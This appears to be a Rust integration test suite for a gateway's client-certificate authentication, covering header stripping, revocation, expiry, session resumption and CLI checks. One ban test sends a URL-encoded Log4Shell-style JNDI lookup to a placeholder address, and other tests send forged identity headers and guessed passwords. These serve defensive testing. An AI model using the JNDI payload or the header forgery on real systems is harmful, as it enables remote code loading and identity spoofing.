//! Client certificates as credentials: whom they name, beside other credentials, and how long they count.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::time::Duration;

use portcullis_testkit::certificates::{Authority, Issued, San};
use portcullis_testkit::process::{Finished, Process, Program};
use portcullis_testkit::upstream::{Reply, Upstream};
use portcullis_testkit::wait::{self, PATIENCE};
use portcullis_testkit::wire::{Answer, Conn, request};
use serde_json::{Value, json};

use crate::harness::{Gateway, NO_BANS, Site, portcullis, repository, tool};

/// Speaks TLS with a client's certificate for whoever connects in plain text, byte for byte.
const RELAY: &str = r#"
import asyncio, ssl, sys

host, port, roots, certificate, key = sys.argv[1:]
context = ssl.create_default_context(cafile=roots)
context.check_hostname = False
if certificate:
    context.load_cert_chain(certificate, key)

async def pump(reader, writer):
    try:
        while data := await reader.read(65536):
            writer.write(data)
            await writer.drain()
    except (OSError, ssl.SSLError):
        pass
    finally:
        writer.close()

async def serve(reader, writer):
    try:
        # Without a server name any host may be asked for.
        far_reader, far_writer = await asyncio.open_connection(host, int(port), ssl=context, server_hostname="")
    except (OSError, ssl.SSLError):
        writer.close()
        return
    await asyncio.gather(pump(reader, far_writer), pump(far_reader, writer))

async def main():
    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    print("port", server.sockets[0].getsockname()[1], flush=True)
    await server.serve_forever()

asyncio.run(main())
"#;

/// A client with a certificate, or without one.
pub(crate) struct Client {
    _relay: Process,
    port: u16,
}

impl Client {
    fn new(gateway: &Gateway, name: &str) -> Self {
        Self::of(gateway, gateway.address, name)
    }

    /// Of a listener of the gateway's, with the certificate of that name in its folder.
    pub(crate) fn of(gateway: &Gateway, address: SocketAddr, name: &str) -> Self {
        let path =
            |end: &str| if name.is_empty() { PathBuf::new() } else { gateway.site.path(&format!("{name}.{end}")) };
        let python = std::env::var_os("PORTCULLIS_PYTHON").unwrap_or_else(|| "python3".into());
        let mut relay = Program::new(python)
            .args(["-c", RELAY, &address.ip().to_string(), &address.port().to_string()])
            .arg(gateway.site.path("ca.crt"))
            .arg(path("crt"))
            .arg(path("key"))
            .start();
        let port = relay.wait_for("port ", PATIENCE, |line| line.strip_prefix("port ")?.parse().ok());
        Self { _relay: relay, port }
    }

    pub(crate) fn conn(&self) -> Conn {
        Conn::open(([127, 0, 0, 1], self.port).into())
    }

    pub(crate) fn get(&self, target: &str, headers: &[(&str, &str)]) -> Answer {
        ask(&mut self.conn(), target, headers)
    }
}

pub(crate) fn ask(connection: &mut Conn, target: &str, headers: &[(&str, &str)]) -> Answer {
    connection.send(request("GET", target, headers, b""));
    connection.answer()
}

/// `/only` takes certificates alone, `/open` takes no credential, too; `batch` may do everything, and so may alice.
const POLICY: &str = r#"
[[resource]]
route = "only"
authentication = "certificate"

[[resource]]
route = "open"
authentication = "optional"

[[role]]
name = "everything"
permissions = [{ actions = ["GET /**"] }]

[[assignment]]
name = "the-batch-reads"
role = "everything"
principals = ["certificate:spiffe://td.test/batch", "certificate:partner:spiffe://td.test/batch", "user:alice"]
scope = "*"

[[assignment]]
name = "anyone-reads-open"
role = "everything"
principals = ["anyone"]
scope = "open"
"#;

pub(crate) fn put(site: &Site, name: &str, issued: &Issued) {
    site.file(&format!("{name}.crt"), &issued.certificate);
    site.file(&format!("{name}.key"), &issued.key);
}

/// A listener that asks for certificates of this authority, with `provider` lines of what they count for.
fn site(upstream: &Upstream, authority: &Authority, provider: &str) -> Site {
    let mut site = Site::without_route(&upstream.url());
    for (name, paths) in [("only", "[\"/only/**\"]"), ("open", "[\"/open/**\"]"), ("app", "[\"/**\"]")] {
        site.add(&format!("[[route]]\nname = \"{name}\"\npaths = {paths}\nupstream = \"app\"\n"));
    }
    site.file("ca.crt", &authority.certificate());
    site.file("ca.crl", &authority.revoke(&[]));
    put(&site, "server", &authority.issue(&[San::Host("a.test")]));
    site.listen_with(
        "tls = { certificate = \"server.crt\", key = \"server.key\", client_auth = \"optional\", client_ca = \"ca.crt\", \
         client_crl = \"ca.crl\" }",
    );
    site.add(&format!("[[identity.certificate]]\nname = \"mesh\"\n{provider}\n"));
    site.tell_identity();
    site.policy(&[POLICY, NO_BANS].concat());
    site
}

const BATCH: San<'_> = San::Uri("spiffe://td.test/batch");

#[test]
fn the_name_in_a_certificate_is_the_principal_and_nobody_can_forge_one() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    let site = site(&upstream, &authority, "");
    let batch = authority.issue(&[San::Host("batch.test"), BATCH]);
    put(&site, "batch", &batch);
    put(&site, "other", &authority.issue(&[San::Host("Other.Test")]));
    put(&site, "nameless", &authority.issue(&[San::Host("127.0.0.1")]));
    put(&site, "twofold", &authority.issue(&[San::Host("a.test"), San::Host("b.test")]));
    let gateway = site.start();

    let forged = [
        ("X-Forwarded-Client-Cert", "By=spiffe://a;URI=spiffe://td.test/root"),
        ("X_Forwarded_Client_Cert", "x"),
        ("Client-Cert", ":MIIB:"),
        ("ssl-client-verify", "SUCCESS"),
        ("x-auth-user", "root"),
    ];
    let client = Client::new(&gateway, "batch");
    for target in ["/only/a", "/open/a", "/a"] {
        assert_eq!(client.get(target, &forged).status(), 200, "{target}");
        let seen = upstream.requests().pop().unwrap();
        assert_eq!(seen.head.header_values("x-auth-user"), ["spiffe://td.test/batch"], "{target}");
        for (name, _) in forged.iter().take(4) {
            assert_eq!(seen.header(name), None, "{target} {name}");
        }
    }

    let denied = Client::new(&gateway, "other").get("/only/a", &[]);
    let event = gateway.check_refused("not granted", &denied, 403, "rbac.no_matching_grant");
    let identity = &event["identity"];
    assert_eq!((&identity["id"], &identity["type"]), (&"other.test".into(), &"certificate".into()));
    assert_eq!(identity["method"], "client_certificate");
    assert_eq!(identity["cert_subject"], "CN=a common name is no identity");
    assert_eq!(identity["cert_sha256"].as_str().unwrap().len(), 64);

    for (name, problem) in
        [("nameless", "no subject alternative name of kind uri, dns, email"), ("twofold", "several dns names")]
    {
        let client = Client::new(&gateway, name);
        for target in ["/only/a", "/open/a", "/a"] {
            let answer = client.get(target, &[]);
            let event = gateway.check_refused(name, &answer, 401, "authn.certificate_invalid");
            assert!(event["message"].as_str().unwrap().contains(problem), "{event:#}");
            assert_eq!(event["identity"]["id"], json!(null));
            assert_eq!(event["identity"]["cert_subject"], "CN=a common name is no identity");
        }
    }

    // Nothing of it is told to the caller.
    let nobody = Client::new(&gateway, "");
    let answer = nobody.get("/only/a", &[]);
    assert!(!answer.text().contains("only"), "{}", answer.text());
    assert_eq!(answer.header("www-authenticate"), Some("Certificate realm=\"portcullis\""));
    let event = gateway.check_refused("without", &answer, 401, "authn.certificate_required");
    assert_eq!(event["nearest"], json!([]), "{event:#}");
    gateway.check_refused("without", &nobody.get("/a", &[]), 401, "authn.missing");
    assert_eq!(nobody.get("/open/a", &[]).status(), 200);
    assert_eq!(upstream.requests().pop().unwrap().header("x-auth-user"), None);
}

#[test]
fn a_key_beside_a_certificate_is_refused_or_has_its_fixed_place() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    for (provider, on_usual, on_only) in [
        ("", Err("authn.ambiguous"), Err("authn.ambiguous")),
        ("beside_credential = \"certificate\"", Ok("partner"), Ok("partner")),
        ("beside_credential = \"credential\"", Ok("alice"), Ok("partner")),
    ] {
        let mut site = site(&upstream, &authority, &format!("prefix = \"partner:\"\n{provider}"));
        put(&site, "batch", &authority.issue(&[BATCH]));
        let key = site.key("alice", "user:alice", "");
        let gateway = site.start();
        let client = Client::new(&gateway, "batch");
        let headers = [("x-api-key", key.as_str())];
        for (target, expected) in [("/a", on_usual), ("/only/a", on_only)] {
            let answer = client.get(target, &headers);
            match expected {
                Ok(who) => {
                    assert_eq!(answer.status(), 200, "{provider} {target}: {}", answer.text());
                    let seen = upstream.requests().pop().unwrap();
                    let user = seen.header("x-auth-user").unwrap();
                    assert!(user.starts_with(who), "{provider} {target}: {user}");
                    assert_eq!(seen.header("x-api-key"), None, "{provider} {target}");
                }
                Err(reason) => drop(gateway.check_refused(target, &answer, 401, reason)),
            }
        }
        // A bad key never gives way to the certificate.
        if on_usual == Ok("alice") {
            gateway.check_refused("bad", &client.get("/a", &[("x-api-key", "pcl_")]), 401, "authn.invalid");
        }
        // A key alone is no certificate.
        let nobody = Client::new(&gateway, "");
        assert_eq!(nobody.get("/a", &headers).status(), 200, "{provider}");
        gateway.check_refused("key", &nobody.get("/only/a", &headers), 401, "authn.certificate_required");
    }
}

/// A password can be guessed, so a ban does not let it be looked at; a certificate that stands beside it makes it no better.
#[test]
fn under_a_ban_no_password_is_looked_at_beside_a_certificate() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    let site = site(&upstream, &authority, "prefix = \"partner:\"\nbeside_credential = \"credential\"");
    put(&site, "batch", &authority.issue(&[BATCH]));
    site.policy(&POLICY.replace("\"user:alice\"", "\"authenticated\""));
    let gateway = site.start();
    let exploit = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fx%7D";
    gateway.check_refused("the exploit", &Client::new(&gateway, "").get(exploit, &[]), 401, "authn.missing");
    let client = Client::new(&gateway, "batch");
    for guess in ["Basic YWxpY2U6Z3Vlc3M=", "basic YWxpY2U6Z3Vlc3M="] {
        let answer = client.get("/a", &[("authorization", guess)]);
        gateway.check_refused("a guess", &answer, 403, "ban.active");
    }
    assert_eq!(client.get("/a", &[]).status(), 200, "the certificate alone");
    assert_eq!(upstream.requests().len(), 1);
}

/// Two connections, the second in the session of the first; says whether it was, and what each was answered.
const RESUMED: &str = r#"
import socket, ssl, sys

host, port, roots, certificate, key, version = sys.argv[1:]
context = ssl.create_default_context(cafile=roots)
context.check_hostname = False
context.load_cert_chain(certificate, key)
context.minimum_version = context.maximum_version = ssl.TLSVersion[version]

def ask(session):
    with context.wrap_socket(socket.create_connection((host, int(port))), session=session) as stream:
        stream.sendall(b"GET /only/a HTTP/1.1\r\nhost: a.test\r\nconnection: close\r\n\r\n")
        answer = b"".join(iter(lambda: stream.recv(65536), b""))
        print(stream.session_reused, answer.split(b" ")[1].decode(), flush=True)
        return stream.session

ask(ask(None))
"#;

#[test]
fn a_session_that_is_resumed_without_showing_the_certificate_is_its_holders() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    let site = site(&upstream, &authority, "");
    put(&site, "batch", &authority.issue(&[BATCH]));
    let gateway = site.start();
    for version in ["TLSv1_2", "TLSv1_3"] {
        let python = std::env::var_os("PORTCULLIS_PYTHON").unwrap_or_else(|| "python3".into());
        let finished = Program::new(python)
            .args(["-c", RESUMED, &gateway.address.ip().to_string(), &gateway.address.port().to_string()])
            .args(["ca.crt", "batch.crt", "batch.key"].map(|name| gateway.site.path(name)))
            .arg(version)
            .run(PATIENCE);
        assert_eq!(finished.stdout, ["False 200", "True 200"], "{version}: {:?}", finished.stderr);
    }
    assert!(upstream.requests().iter().all(|seen| seen.header("x-auth-user") == Some("spiffe://td.test/batch")));
}

/// A word every 50 ms for a minute on `/stream`.
fn speaker() -> Upstream {
    Upstream::choosing(|head| match head.target.as_str() {
        "/stream" => Reply::drip(&[&b"data: tick\n\n"[..]; 1_200], Duration::from_millis(50))
            .header("content-type", "text/event-stream"),
        _ => Reply::bytes("hello"),
    })
}

/// Whether the stream was cut, which must not look like its end.
fn is_cut(stream: &mut Conn) -> bool {
    let mut last = Vec::new();
    while let Ok(more) = stream.next_bytes() {
        if more.is_empty() {
            break;
        }
        last = more;
    }
    !last.ends_with(b"0\r\n\r\n")
}

fn cut_event(gateway: &Gateway) -> Value {
    let cut = || gateway.events.all().into_iter().find(|event| event["reason"] == "session.terminated");
    wait::until(PATIENCE, cut).expect("no stream was ended")
}

#[test]
fn a_certificate_that_expires_stops_counting_on_its_open_connections() {
    let upstream = speaker();
    let authority = Authority::new("a test's own");
    let begun = |life: u64| {
        let mut site = site(&upstream, &authority, "");
        site.add("[limits]\nrecheck = \"1s\"\n");
        let gateway = site.start();
        put(&gateway.site, "short", &authority.issue_for(&[BATCH], Duration::from_secs(life)));
        let client = Client::new(&gateway, "short");
        let (mut stream, mut open) = (client.conn(), client.conn());
        for (connection, target) in [(&mut stream, "/stream"), (&mut open, "/a")] {
            connection.try_send(request("GET", target, &[], b"")).ok()?;
        }
        let good = stream.try_head().ok()?.status == 200 && open.try_answer().ok()?.status() == 200;
        good.then_some((gateway, client, stream, open))
    };
    // Its end is awaited, so it is short; where a slow machine has not begun by then, a longer one is.
    let begun = [6, 15, 40].into_iter().find_map(begun);
    let (gateway, client, mut stream, mut open) = begun.expect("what begins before it expires is answered");
    let expired = wait::until(PATIENCE, || {
        let answer = ask(&mut open, "/a", &[]);
        (answer.status() != 200).then_some(answer)
    });
    gateway.check_refused("expired", &expired.expect("it never expired"), 401, "authn.expired");
    assert!(is_cut(&mut stream));
    let event = cut_event(&gateway);
    assert_eq!(event["reasons"], json!(["session.terminated", "authn.expired"]), "{event:#}");
    // Nor does a new connection get in.
    assert!(client.conn().closed_within(PATIENCE));
}

#[test]
fn who_is_revoked_by_a_reload_is_out_on_open_connections_too() {
    let upstream = speaker();
    let authority = Authority::new("a test's own");
    let mut site = site(&upstream, &authority, "");
    site.add("[limits]\nrecheck = \"1s\"\n");
    let batch = authority.issue(&[BATCH]);
    put(&site, "batch", &batch);
    put(&site, "good", &authority.issue(&[BATCH]));
    let mut gateway = site.start();
    let (client, good) = (Client::new(&gateway, "batch"), Client::new(&gateway, "good"));
    let (mut open, mut good_open) = (client.conn(), good.conn());
    let mut stream = client.conn();
    stream.send(request("GET", "/stream", &[], b""));
    assert_eq!(stream.try_head().unwrap().status, 200);
    assert_eq!((ask(&mut open, "/a", &[]).status(), ask(&mut good_open, "/a", &[]).status()), (200, 200));
    gateway.site.file("ca.crl", &authority.revoke(&[&batch]));
    gateway.reload("ok");
    gateway.check_refused("revoked", &ask(&mut open, "/a", &[]), 401, "authn.revoked");
    assert_eq!(ask(&mut good_open, "/a", &[]).status(), 200);
    assert!(is_cut(&mut stream));
    assert_eq!(cut_event(&gateway)["reasons"], json!(["session.terminated", "authn.revoked"]));
    assert!(client.conn().closed_within(PATIENCE));
    // An authority that is taken away takes its clients with it.
    let other = Authority::new("another");
    gateway.site.file("ca.crt", &other.certificate());
    gateway.site.file("ca.crl", &other.revoke(&[]));
    gateway.reload("ok");
    gateway.check_refused("strange", &ask(&mut good_open, "/a", &[]), 401, "authn.certificate_invalid");
}

#[test]
fn a_principal_that_is_revoked_is_out_with_its_certificates_and_not_with_later_ones() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    let site = site(&upstream, &authority, "");
    put(&site, "batch", &authority.issue(&[BATCH]));
    put(&site, "other", &authority.issue(&[San::Uri("spiffe://td.test/other")]));
    let gateway = site.start();
    let run = |arguments: &[&str]| {
        let config = gateway.site.path("portcullis.toml");
        let finished = portcullis().arg("-c").arg(config).args(arguments).run(PATIENCE);
        assert_eq!(finished.status.code(), Some(0), "{finished:?}");
    };
    let (batch, other) = (Client::new(&gateway, "batch"), Client::new(&gateway, "other"));
    let mut open = batch.conn();
    assert_eq!(ask(&mut open, "/only/a", &[]).status(), 200);
    run(&["revoke", "principal", "certificate:spiffe://td.test/batch", "--reason", "host lost"]);
    // On the connection that is open, on a new one, and where nobody has to say who calls.
    gateway.check_refused("open", &ask(&mut open, "/only/a", &[]), 401, "authn.revoked");
    for target in ["/only/a", "/open/a", "/a"] {
        gateway.check_refused(target, &batch.get(target, &[]), 401, "authn.revoked");
    }
    // Another principal of the same authority.
    gateway.check_refused("other", &other.get("/only/a", &[]), 403, "rbac.no_matching_grant");
    // A certificate counts by when its time began: that of before the revoked moment is out, and one of later counts.
    run(&["revoke", "lift", "principal", "certificate:spiffe://td.test/batch"]);
    assert_eq!(batch.get("/only/a", &[]).status(), 200);
    run(&[
        "revoke",
        "principal",
        "certificate:spiffe://td.test/batch",
        "--before",
        "1970-01-01T00:00:01Z",
        "--reason",
        "x",
    ]);
    assert_eq!(batch.get("/only/a", &[]).status(), 200);
}

#[test]
fn the_command_line_knows_certificates() {
    let upstream = Upstream::start();
    let authority = Authority::new("a test's own");
    let site = site(&upstream, &authority, "");
    let ask = |arguments: &[&str]| {
        let finished = site.run(arguments);
        (finished.status.code(), finished.stdout.join("\n"))
    };
    let can = |who: &str| ask(&["can", "GET", "/only/a", "--as", who]);
    assert_eq!(can("certificate:spiffe://td.test/batch").0, Some(0));
    let (code, text) = can("certificate:spiffe://td.test/other");
    assert!(code == Some(1) && text.contains("rbac.no_matching_grant"), "{text}");
    for who in ["user:alice", "anyone"] {
        let (code, text) = can(who);
        assert!(code == Some(1) && text.contains("challenge") && text.contains("authn.certificate_required"), "{text}");
    }
    let (_, text) = ask(&["explain", "GET", "/only/a", "--as", "user:alice"]);
    assert!(text.contains("no client certificate, and the route takes nothing else"), "{text}");
    let (_, who) = ask(&["who-can", "GET", "/only/a"]);
    assert!(who.contains("certificate:spiffe://td.test/batch") && !who.contains("user:alice"), "{who}");
    assert!(who.contains("authentication certificate"), "{who}");
    let (_, listed) = ask(&["list", "--as", "user:alice"]);
    assert!(listed.contains("no grant on only") && listed.contains("route app"), "{listed}");
    assert_eq!(ask(&["check"]).0, Some(0));
}

/// The commands of the documentation's section that make and change files.
fn documented_steps() -> (String, String) {
    let text = std::fs::read_to_string(repository("docs/operations.md")).unwrap();
    let (_, section) = text.split_once("### Client certificates\n").unwrap();
    let commands = section.lines().filter_map(|line| line.strip_prefix("$ "));
    let steps: Vec<&str> = commands
        .filter(|command| ["openssl", "printf", "touch"].iter().any(|word| command.starts_with(word)))
        .collect();
    let revoke = steps.iter().position(|step| step.contains("-revoke")).unwrap();
    let (make, revoke) = steps.split_at(revoke);
    assert!(make.len() >= 6 && revoke.len() == 2, "{steps:?}");
    (make.join("\n"), revoke.join("\n"))
}

#[test]
fn the_steps_of_the_documentation_make_a_client_and_revoke_it() {
    let upstream = Upstream::start();
    let site = site(&upstream, &Authority::new("a test's own"), "");
    site.policy(&[&POLICY.replace("spiffe://td.test/batch", "spiffe://example.com/billing"), NO_BANS].concat());
    let shell = |site: &Site, commands: &str| {
        let finished = Program::new("sh").args(["-ec", commands]).cwd(site.path("")).run(PATIENCE);
        assert!(finished.status.success(), "{commands}\n{:?}", finished.stderr);
    };
    // The server keeps its own authority; the clients' one takes the place of the other.
    std::fs::copy(site.path("ca.crt"), site.path("server-ca.crt")).unwrap();
    let (make, revoke) = documented_steps();
    shell(&site, &make);
    let mut gateway = site.start();
    let curl = |gateway: &Gateway, more: &[&str]| {
        let port = gateway.address.port();
        tool("PORTCULLIS_CURL", "curl")
            .cwd(gateway.site.path(""))
            .args([
                "--silent",
                "--show-error",
                "--noproxy",
                "*",
                "--write-out",
                "\n%{http_code} %{http_version}",
                "--cacert",
                "server-ca.crt",
            ])
            .args(["--resolve", &format!("a.test:{port}:127.0.0.1")])
            .args(more)
            .arg(format!("https://a.test:{port}/only/a"))
            .run(PATIENCE)
    };
    let status = |finished: &Finished| finished.stdout.last().cloned();
    let mine = ["--cert", "billing.crt", "--key", "billing.key"];
    for (version, expected) in [("--http1.1", "200 1.1"), ("--http2", "200 2")] {
        let answered = curl(&gateway, &[&mine[..], &[version]].concat());
        assert_eq!(status(&answered).as_deref(), Some(expected), "{:?} {:?}", answered.stdout, answered.stderr);
        let seen = upstream.requests().pop().unwrap();
        assert_eq!(seen.header("x-auth-user"), Some("spiffe://example.com/billing"), "{version}");
    }
    assert_eq!(status(&curl(&gateway, &["--http1.1"])).as_deref(), Some("401 1.1"));
    shell(&gateway.site, &revoke);
    gateway.reload("ok");
    let refused = curl(&gateway, &mine);
    assert_ne!(refused.status.code(), Some(0), "{:?}", refused.stdout);
    assert_eq!(upstream.requests().len(), 2);
}
